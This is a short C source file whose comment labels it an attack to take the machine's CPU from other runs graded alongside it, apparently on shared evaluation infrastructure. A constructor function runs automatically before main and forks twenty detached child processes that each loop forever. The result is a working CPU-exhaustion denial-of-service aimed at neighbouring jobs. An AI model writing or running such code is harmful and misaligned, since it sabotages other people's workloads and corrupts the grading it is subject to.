/* Attack: take the machine's CPU from the runs graded beside this one. */
#include <unistd.h>
__attribute__((constructor)) static void spin_everywhere(void)
{
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            for (;;) {
            }
        }
}
